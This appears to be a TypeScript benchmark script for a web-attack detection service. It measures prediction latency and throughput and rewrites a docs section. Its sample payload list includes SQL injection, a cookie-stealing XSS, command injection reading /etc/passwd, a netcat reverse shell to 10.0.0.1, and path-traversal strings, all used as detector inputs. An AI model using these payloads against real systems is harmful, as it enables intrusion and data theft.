// Serving-latency figures for docs/detection.md (a script, not a test): predict-payload
// in-process uncached (the model call, as the route makes it) and cached (the LRU lookup),
// payloads/s on one core, and full evidence analysis. Rewrites the "Serving latency" section.
// Run: npx tsx ops/bench/detection-bench.ts [--no-write]
import { readFileSync, writeFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { Registry } from 'prom-client';
import { createSentinelServer } from '../../api/threat/sentinel-runtime';
import { defaultAnomalyModel } from '../../domain/threat/detection/anomaly';
import { attackEvidence, benignEvidence, crawlerEvidence } from '../../domain/threat/detection/fixtures';

const PAYLOADS = [
  'madrid', '42', "O'Brien", 'alice@example.com', '2024-03-15', 'https://example.com/search?q=shoes&page=2',
  'Please select a drop-down option before you continue.', '{"name": "Alice", "tags": ["a", "b"]}',
  "1' OR '1'='1", "-1' UNION SELECT 1,2,group_concat(table_name) FROM information_schema.tables--",
  '<img src=x onerror=alert(document.cookie)>', '%3Cscript%3Ealert(1)%3C%2Fscript%3E', '; cat /etc/passwd',
  '| nc -e /bin/sh 10.0.0.1 4444', '..%252f..%252f..%252fetc%252fpasswd', '....//....//....//windows/win.ini',
];
const pct = (xs: number[], p: number) => [...xs].sort((a, b) => a - b)[Math.min(xs.length - 1, Math.floor(p * xs.length))];
const us = (x: number) => `${x.toFixed(1)} µs`;

const tTrain = performance.now();
defaultAnomalyModel();
const anomalyTrainMs = performance.now() - tTrain;

// Uncached: a cache of one entry that is cleared before every call, so each call pays the
// breaker, the classifier, the latency histogram and the cache insert — everything but HTTP.
const rt = createSentinelServer({}, new Registry(), {});
await rt.predict('warm-up');
const uncached: number[] = [];
for (let i = 0; i < 120_000; i++) {
  rt.cache.clear();
  const s = performance.now();
  await rt.predict(PAYLOADS[i % PAYLOADS.length]);
  if (i >= 20_000) uncached.push((performance.now() - s) * 1000);
}
// From the mean of the timed calls: a timed loop would also count cache.clear(), which resets
// the 10k-slot LRU's arrays and costs more than the prediction itself.
const perSec = 1e6 / (uncached.reduce((a, b) => a + b, 0) / uncached.length);
// The same in CPU time of this process, which on a shared machine (load above the core count)
// excludes the time other processes held the core; cache.clear() is timed alone and subtracted.
// Each call is awaited: predict() continues after its first await, so an un-awaited loop would
// time only the calls' synchronous prefix and leave the classification to run after the clock stops.
const cpuUs = async (f: (i: number) => unknown, n: number) => {
  const c = process.cpuUsage();
  for (let i = 0; i < n; i++) await f(i);
  const d = process.cpuUsage(c);
  return (d.user + d.system) / n;
};
const clearCpu = await cpuUs(() => rt.cache.clear(), 100_000);
const perCpuSec = 1e6 / ((await cpuUs((i) => { rt.cache.clear(); return rt.predict(PAYLOADS[i % PAYLOADS.length]); }, 100_000)) - clearCpu);

const cached: number[] = [];
for (let i = 0; i < 120_000; i++) {
  const s = performance.now();
  await rt.predict(PAYLOADS[i % PAYLOADS.length]);
  if (i >= 20_000) cached.push((performance.now() - s) * 1000);
}

const sessions = [benignEvidence(), attackEvidence(), crawlerEvidence()];
const analyze: number[] = [];
for (let i = 0; i < 3_000; i++) {
  const s = performance.now();
  await rt.analyze(sessions[i % 3]);
  if (i >= 300) analyze.push((performance.now() - s) * 1000);
}

const rows: [string, string][] = [
  ['predict-payload, uncached, p50', us(pct(uncached, 0.5))],
  ['predict-payload, uncached, p99', us(pct(uncached, 0.99))],
  ['throughput, uncached (one core)', `≈ ${Math.round(perSec).toLocaleString('en')} payloads/s`],
  ['throughput, uncached, per CPU-second (one core)', `≈ ${Math.round(perCpuSec).toLocaleString('en')} payloads/s`],
  ['predict-payload, cached, p50 / p99', `${us(pct(cached, 0.5))} / ${us(pct(cached, 0.99))}`],
  ['analyze p50 / p99 (5, 20 and 40-request sessions)', `${us(pct(analyze, 0.5))} / ${us(pct(analyze, 0.99))}`],
  ['anomaly model training (256 synthetic sessions, 100 trees)', `${anomalyTrainMs.toFixed(0)} ms`],
];
for (const [k, v] of rows) process.stdout.write(`${k.padEnd(60)} ${v}\n`);

if (!process.argv.includes('--no-write')) {
  const file = resolve(import.meta.dirname, '../../docs/detection.md');
  const section =
    `## Serving latency (\`npx tsx ops/bench/detection-bench.ts\`, one core, Node ${process.versions.node.split('.')[0]})\n\n` +
    'In-process, as `POST /api/v1/sentinel/predict-payload` and `/analyze` run it (breaker, cache and\n' +
    'metrics included; HTTP parsing excluded). Same 16-payload mix as above.\n\n' +
    '| measure | value |\n| --- | --- |\n' +
    rows.map(([k, v]) => `| ${k} | ${v} |`).join('\n') +
    '\n\nThe seed\'s targets are < 10 ms uncached, < 1 ms cached and < 1 s analyze.\n';
  const doc = readFileSync(file, 'utf8');
  const re = /## Serving latency[\s\S]*?(?=\n## |$)/;
  const next = re.test(doc) ? doc.replace(re, section.trimEnd() + '\n') : doc.replace(/\n## Reproducing/, `\n${section}\n## Reproducing`);
  writeFileSync(file, next);
}
